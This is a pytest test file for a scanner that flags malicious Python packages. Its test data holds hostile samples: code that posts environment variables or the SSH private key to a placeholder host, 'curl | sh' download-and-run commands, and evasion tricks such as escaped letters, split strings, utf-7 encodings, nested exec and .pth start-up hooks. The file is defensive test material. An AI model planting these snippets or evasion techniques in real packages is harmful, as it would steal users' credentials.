from collections.abc import Mapping
from pathlib import Path

import pytest

from package_gate.core.artifact import UnpackedPackage
from package_gate.core.finding import Finding, Kind, Location, Severity
from package_gate.core.limits import Limits
from package_gate.sandbox.pool import ScannerPool
from package_gate.scanners.behaviour import candidates
from package_gate.scanners.behaviour.scanner import BehaviourScanner
from package_gate.scanners.registry import worker_spec
from tests.scanners.packages import package, package_of, refusing_rules

SENDS = "import os\nimport requests\nrequests.post('https://a.example', json=dict(os.environ))\n"


@pytest.fixture(scope="module")
def behaviour() -> BehaviourScanner:
    return BehaviourScanner(Limits())


def scan(
    behaviour: BehaviourScanner, folder: Path, files: Mapping[str, str | bytes]
) -> list[Finding]:
    return list(behaviour.scan(package(folder, files)))


def test_a_finding_says_what_and_where_and_that_it_runs(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": SENDS})

    (place,) = found.locations
    assert len(place.fingerprint) == 64
    code = "requests.post('https://a.example', json=dict(os.environ))"
    assert found == Finding(
        scanner="behaviour",
        rule="sends-secrets",
        kind=Kind.MALWARE,
        severity=Severity.HIGH,
        message="Suspicious: credentials or personal files are sent away: "
        "requests.post('https://a.example', json=dict(os.environ)). "
        "This runs by itself, on installation, on import or when Python starts.",
        recommendation="Look at these lines: what is sent, to whom, and whether users are asked "
        "first.",
        artifact="sample-1.0-py3-none-any.whl",
        locations=(Location("sample/__init__.py", 3, code, place.fingerprint),),
    )


def test_one_rule_in_several_files_is_one_finding(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    (found,) = scan(behaviour, tmp_path, {f"sample/{name}.py": SENDS for name in "abc"})

    assert found.count == 3
    assert [place.path for place in found.locations] == [f"sample/{name}.py" for name in "abc"]


def test_what_nothing_runs_is_not_reported(behaviour: BehaviourScanner, tmp_path: Path) -> None:
    target = package(tmp_path, {"docs/conf.py": SENDS}, filename="sample-1.0.tar.gz")

    assert list(behaviour.scan(target)) == []


def test_letters_of_other_alphabets_hide_no_word(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    script = {letter: chr(0x1D4EA + ord(letter) - ord("a")) for letter in "environpst"}
    hidden = SENDS
    for name in (".environ", ".post"):
        hidden = hidden.replace(name, "".join(script.get(letter, letter) for letter in name))
    assert not hidden.isascii()

    (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": hidden})

    assert found.rule == "sends-secrets"


def test_a_file_that_is_too_large_is_a_high_finding(
    behaviour: BehaviourScanner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(candidates, "MAX_FILE_BYTES", 1000)

    (found,) = scan(behaviour, tmp_path, {"sample/a.py": "#" * 1001, "sample/b.bin": "#" * 1001})

    assert (found.rule, found.severity) == ("file-too-large", Severity.HIGH)
    assert found.locations == (Location("sample/a.py"),)


def test_a_file_that_several_wheels_have_is_reported_for_each(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    names = [f"sample-1.0-{tag}.whl" for tag in ("cp311", "cp312")]
    wheels = [
        package(tmp_path / name, {"sample/__init__.py": SENDS}, filename=name) for name in names
    ]

    assert [each.artifact for each in behaviour.scan(package_of(*wheels))] == names


def test_in_its_worker_it_finds_the_same(behaviour: BehaviourScanner, tmp_path: Path) -> None:
    def target(folder: Path) -> UnpackedPackage:
        return package(folder, {"sample/__init__.py": SENDS, "yara.py": "raise SystemExit"})

    with ScannerPool([worker_spec("behaviour")], Limits(), tmp_path) as pool:
        found = pool.scan("behaviour", target(tmp_path / "worker"))

    assert found == list(behaviour.scan(target(tmp_path / "here")))


HIDDEN_BEHIND = {
    "a chain of calls": "x = 'a'" + ".f()" * 12_000,
    "a long list of elifs": "if 0: pass\n" + "elif 0: pass\n" * 9000,
    "brackets": "[" * 201 + "]" * 201,
    "lambdas": "f = " + "lambda:" * 7000 + "0",
    "a NUL": "# \0",
    "names of names": "a0 = 1\n" + "".join(f"a{n + 1} = a{n}\n" for n in range(500)) + "a500()",
}


@pytest.mark.parametrize("cover", HIDDEN_BEHIND.values(), ids=list(HIDDEN_BEHIND))
@pytest.mark.parametrize("path", ["sample/__init__.py", "sample/deep/agent.py", "setup.py"])
def test_what_the_gate_cannot_look_at_is_not_clean(
    behaviour: BehaviourScanner, tmp_path: Path, cover: str, path: str
) -> None:
    found = scan(behaviour, tmp_path, {path: f"{SENDS}{cover}\n"})

    assert {each.severity for each in found} == {Severity.HIGH}


def test_deep_but_honest_code_is_looked_at(behaviour: BehaviourScanner, tmp_path: Path) -> None:
    long = "import os\nx = os.environ" + "['a'].f()" * 100 + "\ny = x" + " + 'a'" * 250 + "\n"

    assert scan(behaviour, tmp_path, {"sample/__init__.py": long}) == []
    (found,) = scan(behaviour, tmp_path / "2", {"sample/__init__.py": long + SENDS})
    assert found.rule == "sends-secrets"


def test_a_module_that_cannot_be_looked_at_may_call_all_of_another(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    agent = SENDS.replace("requests.post", "def go():\n    requests.post")
    files = {"sample/agent.py": agent, "sample/__init__.py": ""}

    assert [each.severity for each in scan(behaviour, tmp_path, files)] == [Severity.MEDIUM]
    files["sample/__init__.py"] = f"from .agent import go\ngo()\n{HIDDEN_BEHIND['a NUL']}"
    found = scan(behaviour, tmp_path / "2", files)
    assert "sends-secrets" in {each.rule for each in found if each.severity is Severity.HIGH}


@pytest.mark.parametrize(
    "text",
    [
        "print 'Python 2'\n",
        "import {{ cookiecutter.name }}\n",
        "x = 'unterminated\n",
        "x = '\\N{no such letter'\n",
    ],
)
def test_what_no_python_parses_is_told_and_refuses_nothing(
    behaviour: BehaviourScanner, tmp_path: Path, text: str
) -> None:
    (found,) = scan(behaviour, tmp_path, {"sample/data/bad.py": SENDS + text})

    assert (found.rule, found.severity) == ("not-python", Severity.INFO)
    assert [(place.path, place.line) for place in found.locations] == [("sample/data/bad.py", 1)]


@pytest.mark.parametrize(
    "line",
    [
        "\U00031350 = 1",
        "x = '\\N{KAWI LETTER A}'",
        f"x = {'1' * 5000}",
        f"x = '\\N{{KAWI LETTER A}}{'.' * 9}'",
    ],
    ids=["a letter", "the name of one", "a number", "the name of one, and more"],
)
def test_what_only_another_python_or_setting_parses_is_not_clean(
    behaviour: BehaviourScanner, tmp_path: Path, line: str
) -> None:
    (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": f"{SENDS}{line}\n"})

    assert (found.rule, found.severity) == ("unreadable-code", Severity.HIGH)


@pytest.mark.parametrize("comment", [b"# \xff\n", b"x = 1  # Gr\xfc\xdfe\n", b"# caf\xe9"])
def test_a_comment_in_another_encoding_hides_nothing(
    behaviour: BehaviourScanner, tmp_path: Path, comment: bytes
) -> None:
    (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": SENDS.encode() + comment})

    assert (found.rule, found.severity) == ("sends-secrets", Severity.HIGH)


POST = "post('https://a.example', json=dict(os.environ))\n"


@pytest.mark.parametrize(
    "code",
    [
        f"import os, requests as r\nr.{POST}",
        f"import os; import sys, requests as r\nr.{POST}",
        f"import os\nimport \\\n  requests as r\nr.{POST}",
        f"import os\nimport\frequests as r\nr.{POST}",
        f"import os\nfrom requests.api import *\n{POST}",
        "import os\nos.system('c\\x75rl -s https://a.example | sh')\n",
        "import os\nos.system('c\\165rl -s https://a.example | sh')\n",
        "import os\nos.system('\\N{LATIN SMALL LETTER C}url -s https://a.example | sh')\n",
        "import os\nos.system('cu' \"rl -s https://a.example | sh\")\n",
        "import os\nos.system('c' + 'u' +  # it\n   r'rl -s https://a.example | sh')\n",
        "import os\nos.system('cu''rl -s https://a.example | sh')\n",
        f"import os\nos.system('cu'  #{'.' * 2000}\n 'rl -s https://a.example | sh')\n",
        f"# {'-' * 78}\n" * 300
        + "import os\nos.system(''.join(['cur', 'l https://a.example | sh']))\n",
    ],
)
def test_words_are_read_as_python_reads_them(
    behaviour: BehaviourScanner, tmp_path: Path, code: str
) -> None:
    found = scan(behaviour, tmp_path, {"sample/__init__.py": code})

    assert Severity.HIGH in {each.severity for each in found}


def test_looking_for_words_takes_no_longer_than_there_are(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    hostile = ["'#" * 200_000, "import " * 100_000, "'a' " * 100_000, "\\x4" * 100_000]
    code = "".join(f"# {each}\n" for each in hostile)

    assert scan(behaviour, tmp_path, {"sample/__init__.py": code}) == []


def test_code_for_a_newer_python_is_looked_at(behaviour: BehaviourScanner, tmp_path: Path) -> None:
    code = (
        "import os, requests\ntype Where = str\ndef send[T](to: T):\n"
        "    requests.post(f'{'https:'}//a.example', json=dict(os.environ))\nsend(1)\n"
    )

    (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": code})

    assert (found.rule, found.locations[0].line) == ("sends-secrets", 4)


@pytest.mark.parametrize("codec", ["utf-7", "raw_unicode_escape", "rot13", "hex", "x.own", "gbk"])
def test_code_in_an_encoding_that_hides_it_refuses(
    behaviour: BehaviourScanner, tmp_path: Path, codec: str
) -> None:
    code = f"#!/usr/bin/python\n# coding: {codec}\nprint(+AGEAYg-)\n"

    (found,) = scan(behaviour, tmp_path, {"sample/sub/plain.py": code})

    assert (found.rule, found.severity) == ("unusual-encoding", Severity.HIGH)
    assert codec.partition(".")[0][:3] in found.message
    # What a codec of the package's own makes of the same bytes may be something else next time.
    assert bool(found.locations[0].fingerprint) is (codec != "x.own")


HIDDEN = "+AGk-mport os\n+AG8-s.system('a')\n"
OWN = "import codecs\ncodecs.register(find)\n"


@pytest.mark.parametrize(
    ("text", "module"),
    [
        (f"# coding: utf-7\n{HIDDEN}", ""),
        (f"#!/bin/sh\n# -*- coding: U7 -*-\n{HIDDEN}", ""),
        ("# coding: unicode_escape\n\\x69mport os\n", ""),
        ("# a\r# coding: utf-7\n" + HIDDEN, ""),
        ("# coding: own\nanything\n", OWN),
        ("# coding: own\nanything\n", "from encodings.aliases import aliases\n"),
    ],
)
def test_code_in_such_an_encoding_refuses_however_it_is_named(
    behaviour: BehaviourScanner, tmp_path: Path, text: str, module: str
) -> None:
    files = {"sample/a.dat": text, "sample/__init__.py": module}

    assert "unusual-encoding" in refusing_rules(behaviour, tmp_path, files)


@pytest.mark.parametrize(
    ("text", "module"),
    [
        ("# -*- coding: utf-8-unix -*-\nimport os\n", OWN),
        (";; -*- coding: emacs-mule -*-\n(import 'os)\n", OWN),
        ("# -*- coding: undecided -*-\nimport os\n", "import codecs\ncodecs.lookup('x')\n"),
        ("# Content-Encoding: base64\nimport of goods\naW1wb3J0IG9z\n", ""),
        ("# File encoding: utf-7\n\nWe import goods, see +AGk-.\n", ""),
        ("# coding: utf-7\nname = 1\n", ""),
        ("# -*- coding: euc-jp -*-\nmsgid 'import'\nmsgstr '\u8f38\u5165'\n".encode("euc-jp"), ""),
        ("# coding: gbk\nimport os\nprint('\u8f38\u5165')\n".encode("gbk"), ""),
        ("# coding: latin-1\nimport os\nprint('\xe9')\n".encode("latin-1"), ""),
        ("# see the coding: rules below\nimport x\n", ""),
    ],
)
def test_ordinary_data_may_declare_an_encoding(
    behaviour: BehaviourScanner, tmp_path: Path, text: str | bytes, module: str
) -> None:
    files = {"sample/a.txt": text, "sample/__init__.py": module}

    assert not refusing_rules(behaviour, tmp_path, files)


def test_data_in_an_east_asian_encoding_is_read_in_it(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    # To whoever takes it for Latin letters, the first text has no end.
    text = "# coding: cp932\nname = '\u8868'\nexec(__import__('base64').b64decode('eA=='))\n"

    files = {"sample/a.dat": text.encode("cp932")}

    assert refusing_rules(behaviour, tmp_path, files)


def test_code_in_a_plain_encoding_is_read_in_it(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    code = f"# coding: latin-1\nname = '\xe9'\r{SENDS}".encode("latin-1")

    (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": code})

    assert (found.rule, found.locations[0].line) == ("sends-secrets", 5)


@pytest.mark.parametrize(
    "code",
    [
        "exec(" + repr("x = 1\n" * 800 + SENDS) + ")",
        f"exec(compile({SENDS!r}, 'a', 'exec'))",
        "exec(" + repr("exec(" + repr("exec(" + repr(SENDS) + ")") + ")") + ")",
    ],
    ids=["long", "compiled", "thrice"],
)
def test_code_in_code_is_looked_at_or_refuses(
    behaviour: BehaviourScanner, tmp_path: Path, code: str
) -> None:
    found = scan(behaviour, tmp_path, {"sample/__init__.py": code})

    assert {each.severity for each in found} == {Severity.HIGH}
    assert {each.rule for each in found} & {"sends-secrets", "unreadable-code"}


def test_start_up_lines_are_read_in_both_ways(behaviour: BehaviourScanner, tmp_path: Path) -> None:
    sends = SENDS.replace("\n", "; ")

    for number, text in enumerate((f"import a; x = '\x0c'; {sends}\n", f"./a\x0c{sends}\n")):
        found = scan(behaviour, tmp_path / str(number), {"sample.pth": text})
        assert "sends-secrets" in {each.rule for each in found}


@pytest.mark.parametrize(
    ("start", "folder", "rules"),
    [
        ("sample.later:main\n", "", {"acts-at-every-start", "sends-host-facts"}),
        ("# what\n sample.later : Tool.run # then\n", "", {"acts-at-every-start"}),
        (
            "sample.later:main\n",
            "sample-1.0.data/purelib/",
            {"acts-at-every-start", "sends-host-facts"},
        ),
        ("sample.later:nothing\nother:main\nno line\n", "", set()),
        ("# sample.later:main\n", "", set()),
    ],
)
def test_functions_that_python_calls_at_each_start_run_by_themselves(
    behaviour: BehaviourScanner, tmp_path: Path, start: str, folder: str, rules: set[str]
) -> None:
    code = (
        "import requests, socket\n"
        "def main():\n    requests.post('https://a.example', data=socket.gethostname())\n"
        "class Tool:\n    def run():\n        requests.get('https://a.example')\n"
        "def nothing():\n    return 1\n"
    )
    files = {f"{folder}sample.start": start, "sample/__init__.py": "", "sample/later.py": code}

    found = scan(behaviour, tmp_path, files)

    assert {each.rule for each in found if not each.waits} == rules


def test_a_file_that_only_brings_two_modules_together_is_looked_at(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    files = {
        "sample/__init__.py": "from .a import gather\nfrom .b import deliver\ndeliver(gather())\n",
        "sample/a.py": "import os\ndef gather():\n    return dict(os.environ)\n",
        "sample/b.py": "import requests\ndef deliver(data):\n"
        "    requests.post('https://a.example', json=data)\n",
    }

    (found,) = scan(behaviour, tmp_path, files)

    assert (found.rule, found.severity) == ("sends-secrets", Severity.HIGH)


SNAP = "import os\nSNAP = dict(os.environ)\n"
KEYS = "from pathlib import Path\nSNAP = (Path.home() / '.ssh' / 'id_rsa').read_text()\n"
POST = "import requests\nrequests.post('https://a.example', json={})\n"
LATER = "import requests\ndef go():\n    requests.post('https://a.example', json={})\n"
SHIP = "import requests\ndef ship(what):\n    requests.post('https://a.example', json=what)\n"


@pytest.mark.parametrize(
    ("files", "waits"),
    [
        ({"a": SNAP, "b": f"from .a import SNAP\n{POST.format('SNAP')}"}, False),
        ({"a": KEYS, "b": f"from .a import SNAP as s\n{POST.format('str(s)')}"}, False),
        ({"a": SNAP, "b": f"from . import a\n{POST.format('a.SNAP')}"}, False),
        ({"a": SNAP, "b": f"import sample.a\n{POST.format('sample.a.SNAP')}"}, False),
        ({"a": SNAP, "b": f"from sample.a import SNAP\n{POST.format('{1: SNAP}')}"}, False),
        ({"a": SNAP, "b": f"from .a import *\n{POST.format('SNAP')}"}, False),
        ({"a": SNAP, "b": f"from .a import SNAP\n{LATER.format('SNAP')}"}, True),
        ({"a": KEYS, "b": f"from .a import SNAP\n{LATER.format('SNAP')}"}, True),
        (
            {"a": "import os\ndef get():\n    return str(os.environ)\n",
             "b": f"from .a import get\n{POST.format('get()')}"},
            False,
        ),
        ({"b": SHIP, "a": "import os\nfrom .b import ship\nship(dict(os.environ))\n"}, False),
        ({"b": SHIP, "a": "import os\nfrom .b import *\nship(dict(os.environ))\n"}, False),
        ({"b": SHIP, "a": "import os\nfrom . import b\nb.ship(os.environ.copy())\n"}, False),
        (
            {"a": SNAP, "b": SHIP, "c": "from .a import SNAP\nfrom .b import ship\nship(SNAP)\n"},
            False,
        ),
        (
            {"d": f"{SNAP}{SHIP}", "c": "from .d import SNAP, ship\nship(str(SNAP))\n"},
            False,
        ),
        (
            {"a": SNAP, "b": SHIP, "c": "from . import a as x, b as y\ny.ship(x.SNAP)\n"},
            False,
        ),
    ],
    ids=range(15),
)  # fmt: skip
def test_what_one_module_reads_and_another_sends_is_told(
    behaviour: BehaviourScanner, tmp_path: Path, files: dict[str, str], waits: bool
) -> None:
    named = {f"sample/{name}.py": text for name, text in files.items()}

    found = scan(behaviour, tmp_path, {"sample/__init__.py": "", **named})

    told = [(each.rule, each.waits) for each in found if each.rule != "reads-credentials"]
    assert told == [("sends-secrets", waits)]
    assert (len(told) < len(found)) is (KEYS in files.values())


@pytest.mark.parametrize(
    "files",
    [
        {"a": "import os\nWAIT = os.environ.get('WAIT')\n",
         "b": "from .a import WAIT\nimport requests\nrequests.get('https://a', timeout=WAIT)\n"},
        {"a": f"{SNAP}def run(): pass\n",
         "b": "from .a import run\nimport requests\nrequests.get('https://a')\nrun()\n"},
        {"a": SNAP, "b": POST.format("1"), "c": "from . import a, b\nprint(a.SNAP, b)\n"},
        {"a": "import os\nKEY = os.environ['API_TOKEN']\n",
         "b": f"from .a import KEY\n{LATER.format('KEY')}"},
    ],
    ids=range(4),
)  # fmt: skip
def test_modules_that_read_and_send_different_things_are_not(
    behaviour: BehaviourScanner, tmp_path: Path, files: dict[str, str]
) -> None:
    named = {f"sample/{name}.py": text for name, text in files.items()}

    assert scan(behaviour, tmp_path, {"sample/__init__.py": "", **named}) == []


@pytest.mark.parametrize("name", ["notes.txt", "table.csv", "README", "page.js", "fast.pyx"])
def test_python_that_is_named_like_data_counts(
    behaviour: BehaviourScanner, tmp_path: Path, name: str
) -> None:
    (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": "", f"sample/{name}": SENDS})

    assert (found.rule, found.waits) == ("sends-secrets", True)
    assert found.locations[0].path == f"sample/{name}"


def test_data_that_speaks_of_such_code_does_not(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    quoted = "".join(f"    {line}\n" for line in SENDS.splitlines())
    files: dict[str, str | bytes] = {
        "sample/__init__.py": "",
        "sample/README.md": f"# Don't import this\n\n{quoted}",
        "sample/example.txt": "import os\nprint(os.environ)\n",
        "sample/cache.bin": b"\0" + SENDS.encode(),
    }

    assert scan(behaviour, tmp_path, files) == []


def test_a_start_up_file_that_runs_data_is_found(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    line = "import sys; exec(open(sitedir + '/sample/notes.txt').read())\n"

    (found,) = scan(behaviour, tmp_path, {"sample.pth": line, "sample/notes.txt": "x = 1\n"})

    assert found.rule == "runs-own-data"


def test_what_an_older_python_cannot_write_down_is_identified(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    send = "requests.post(f'https://a.example/{'\\n'.join(os.environ)}')"
    code = f"import os\nimport requests\n\ndef go():\n    {send}\n\ngo()\n"

    found = scan(behaviour, tmp_path, {"sample/__init__.py": code})

    assert [each.rule for each in found] == ["sends-secrets"]
    assert found[0].locations[0].fingerprint


def test_code_that_a_new_python_is_given_is_looked_at(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    inner = "; ".join(SENDS.splitlines())
    code = f"import os, sys\nos.execv(sys.executable, [sys.executable, '-c', {inner!r}])\n"

    assert [each.rule for each in scan(behaviour, tmp_path, {"sample/__init__.py": code})] == [
        "sends-secrets"
    ]


@pytest.mark.parametrize(
    "code",
    [
        "import trace\ntrace.Trace(count=0).run(TEXT)",
        "import profile\nwatch = profile.Profile()\nwatch.runctx(TEXT, {}, {})",
        "import _interpreters as those\nthose.exec(those.create(), TEXT)",
        "import doctest\ndoctest.testfile('notes.txt')",
        "get_ipython().safe_execfile_ipy(PATH)",
    ],
)
def test_there_are_many_ways_to_run_a_text(
    behaviour: BehaviourScanner, tmp_path: Path, code: str
) -> None:
    start = "from pathlib import Path\nPATH = Path(__file__).with_name('notes.txt')\n"
    files = {
        "sample/__init__.py": f"{start}TEXT = PATH.read_text()\n{code}\n",
        "sample/notes.txt": "print('hello')\n",
    }

    assert "runs-own-data" in {each.rule for each in scan(behaviour, tmp_path, files)}


def test_a_backend_that_asks_for_what_has_an_address_is_found(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    asks = "from setuptools.build_meta import *\ndef get_requires_for_build_wheel(settings=None):\n"
    project = "[build-system]\nrequires = []\nbuild-backend = 'own'\nbackend-path = ['b']\n"
    for name, given in (("bad", "x @ https://a.example/x.zip"), ("good", "numpy")):
        files = {"b/own.py": f"{asks}    return ['{given}']\n", "pyproject.toml": project}
        found = list(behaviour.scan(package(tmp_path / name, files, filename="s-1.0.tar.gz")))
        assert [each.rule for each in found] == ["installs-another-package"] * (name == "bad")
